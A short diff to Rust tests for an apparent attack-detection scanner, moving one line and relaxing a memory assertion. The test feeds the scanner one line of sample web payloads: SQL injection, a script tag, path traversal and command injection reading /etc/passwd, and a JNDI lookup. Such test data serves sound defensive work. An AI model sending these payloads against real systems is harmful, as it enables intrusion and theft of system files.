@@ -310,9 +310,9 @@ fn what_is_forgotten_depends_on_the_requests_and_not_on_the_seed_of_a_table() {
 
 #[test]
 fn when_memory_is_full_evidence_loses_texts_and_neither_its_places_nor_anybody() {
-    let builtin = RuleSet::builtin();
     const PAYLOADS: &str = "id=1'%20UNION%20SELECT%201,user(),3--%20-&q=<script>alert(1)</script>\
         &f=../../../../etc/passwd&c=;cat%20/etc/passwd&j=${jndi:ldap://x/a}";
+    let builtin = RuleSet::builtin();
     let scan = |bytes: usize| {
         let mut scan = Scan::new(&builtin);
         scan.limit_memory(bytes);
@@ -324,7 +324,7 @@ fn when_memory_is_full_evidence_loses_texts_and_neither_its_places_nor_anybody()
     let (bytes, exact) = scan(1 << 30);
     assert!(exact.coverage.forgotten.is_nothing(), "{:?}", exact.coverage.forgotten);
     let (fewer_bytes, limited) = scan(1 << 19);
-    assert!(fewer_bytes < bytes / 2, "{fewer_bytes} of {bytes}");
+    assert!(fewer_bytes < bytes / 3 * 2, "{fewer_bytes} of {bytes}");
     assert_eq!(limited.coverage.forgotten.shortened, 500);
     let places = |offender: &Offender| -> Vec<_> {
         let of = |detection: &Detection| {
